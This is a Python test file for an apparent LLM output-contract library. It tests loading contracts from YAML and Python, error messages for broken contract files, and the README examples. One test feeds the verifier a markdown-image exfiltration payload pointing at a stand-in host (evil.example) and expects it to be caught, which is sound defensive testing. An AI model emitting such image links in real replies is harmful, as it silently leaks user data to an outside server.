"""Contracts in YAML and in Python are one model; errors name file, place and fix."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
import yaml

from unwalled.contracts import Contract, OnFail, load_contract, parse_contract
from unwalled.contracts.checks.length import LengthOptions
from unwalled.contracts.checks.urls import UrlOptions
from unwalled.errors import ConfigError

ROOT = Path(__file__).parents[1]
BANKING = ROOT / "examples" / "banking77"

YAML = """\
name: support-reply
route: triage
system: You answer bank customers briefly.
template: "Customer: {input}"
output:
  schema:
    type: object
    properties: {reply: {type: string}}
    required: [reply]
checks:
  - no_secrets
  - {urls: {allow: [bank.example]}}
  - {max_chars: 500}
on_fail: {repair: 2, then: fallback}
decoding: constrained
"""


def test_yaml_and_python_build_the_same_contract(tmp_path):
    path = tmp_path / "reply.yaml"
    path.write_text(YAML)
    from_yaml = load_contract(path)
    from_python = Contract(
        name="support-reply", route="triage",
        system="You answer bank customers briefly.", template="Customer: {input}",
        output={"schema": {"type": "object", "properties": {"reply": {"type": "string"}},
                           "required": ["reply"]}},
        checks=["no_secrets", UrlOptions(allow=["bank.example"]),
                LengthOptions(max_chars=500)],
        on_fail=OnFail(repair=2, fallback=True), decoding="constrained")
    assert from_yaml.model_dump() == from_python.model_dump()
    assert from_yaml.user_message("hi") == "Customer: hi"
    assert from_yaml.on_fail.describe() == "repair 2x then fallback"


@pytest.mark.parametrize("written,repair,fallback", [
    ("reject", 0, False), ("repair", 2, False), ("fallback", 0, True),
    ({"repair": 3}, 3, False), ({"repair": 1, "then": "reject"}, 1, False),
    ([{"repair": 1}, "fallback"], 1, True),
])
def test_on_fail_forms(written, repair, fallback):
    on_fail = parse_contract({"name": "x", "on_fail": written}).on_fail
    assert (on_fail.repair, on_fail.fallback) == (repair, fallback)


@pytest.mark.parametrize("broken,place,fix", [
    ("checks:\n  - no_secrets\n  - {urls: {alow: [a.example]}}\n",
     "checks[1].alow (line 4)", "remove it or correct its spelling"),
    ("checks:\n  - {max_chars: many}\n", "checks[0].max_chars (line 3)",
     "give a whole number"),
    ("checks:\n  - spellcheck\n", "checks[0] (line 3)", "known checks: "),
    ("on_fail: {repair: 2, then: retry}\n", "on_fail (line 2)", "fallback or reject"),
    ("decoding: greedy\n", "decoding (line 2)", "use one of the values listed"),
    ("output:\n  schema: {type: objekt}\n", "output.schema", "not valid JSON Schema"),
    ("checks:\n  - {regex: {forbid: ['(a)\\1']}}\n", "checks[0]", "backtracking: true"),
])
def test_a_broken_contract_file_names_file_place_and_fix(tmp_path, broken, place, fix):
    path = tmp_path / "broken.contract.yaml"
    path.write_text("name: broken\n" + broken)
    from unwalled.contracts import Verifier

    with pytest.raises(ConfigError) as caught:
        Verifier(load_contract(path))
    message = caught.value.message
    assert message.startswith(f"{path}: ")
    assert place in message, message
    assert fix in message, message


def test_invalid_yaml_says_where(tmp_path):
    path = tmp_path / "bad.yaml"
    path.write_text("name: x\nchecks: [no_secrets\n")
    with pytest.raises(ConfigError, match=r"bad.yaml: line \d+, column \d+: not valid YAML"):
        load_contract(path)


def test_schema_can_live_in_its_own_file(tmp_path):
    (tmp_path / "schema.json").write_text(json.dumps({"type": "array"}))
    (tmp_path / "c.yaml").write_text("name: c\noutput: {schema: schema.json}\n")
    assert load_contract(tmp_path / "c.yaml").schema == {"type": "array"}


def test_banking77_contract_enum_is_the_77_categories():
    contract = load_contract(BANKING / "intent.contract.yaml")
    categories = json.loads((BANKING / "categories.json").read_text())
    assert contract.schema["properties"]["intent"]["enum"] == categories
    assert len(categories) == 77
    assert yaml.safe_load((BANKING / "intent.contract.yaml").read_text())["name"] \
        == "banking77-intent"


def test_the_readme_contract_loads_and_judges_as_documented(tmp_path):
    readme = (ROOT / "README.md").read_text()
    section = readme.split("### A contract in YAML", 1)[1]
    block = section.split("```yaml\n", 1)[1].split("```", 1)[0]
    path = tmp_path / "support.contract.yaml"
    path.write_text(block)
    from unwalled.contracts import Verifier

    verifier = Verifier(load_contract(path))
    assert verifier.contract.on_fail.describe() == "repair 2x then fallback"
    good = verifier.verify('{"reply": "Your card arrives in 3 days.", "category": "cards"}')
    assert good.passed, good.violations
    bad = verifier.verify('{"reply": "See ![x](https://evil.example/p.png?d=1)", '
                          '"category": "card"}')
    assert {v.check for v in bad.violations} == {"schema", "exfiltration", "urls"}


def test_the_readme_python_client_example_fits_the_config_init_writes():
    import re

    from unwalled.config import parse_config

    readme = (ROOT / "README.md").read_text()
    block = readme.split("### The same contract in Python", 1)[1] \
        .split("```python\n", 1)[1].split("```", 1)[0]
    compile(block, "README.md", "exec")  # it is Python as written
    route = re.search(r'route="(\w+)"', block).group(1)
    asked = int(re.search(r"max_tokens=(\d+)", block).group(1))
    example = yaml.safe_load((ROOT / "src/unwalled/example.yaml").read_text())
    ceiling = parse_config(example).routes[route].max_tokens
    assert asked <= ceiling, f"the README asks {asked} tokens of a {ceiling} ceiling"
